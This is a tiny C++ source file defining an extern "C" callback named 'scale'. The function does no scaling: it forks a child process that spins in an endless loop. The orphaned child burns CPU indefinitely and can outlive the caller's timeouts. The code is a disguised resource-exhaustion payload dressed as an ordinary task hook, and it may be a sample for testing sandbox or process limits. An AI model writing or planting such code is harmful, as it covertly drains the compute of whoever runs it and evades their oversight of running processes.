#include <unistd.h>
extern "C" void scale(long task, void* const* args) { if (fork() == 0) for (;;) {} }
